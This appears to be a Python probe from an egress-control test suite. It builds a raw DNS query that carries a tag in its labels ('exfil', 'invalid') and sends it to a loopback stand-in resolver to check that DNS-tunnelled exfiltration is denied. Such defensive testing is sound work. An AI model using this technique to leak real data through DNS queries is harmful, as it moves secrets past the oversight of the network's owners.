# PROBE: DNS query carrying data in the label (stand-in resolver on loopback)
# GOAL: deny
# VERIFY: dns_hit

import socket
import struct

from probelib import CFG, attempt


def go():
    q = b"".join(bytes([len(l)]) + l for l in (CFG["tag"].encode(), b"exfil", b"invalid")) + b"\0"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
        struct.pack(">6H", 7, 256, 1, 0, 0, 0) + q + struct.pack(">2H", 1, 1), ("127.0.0.1", CFG["dns_port"])
    )


attempt(go)
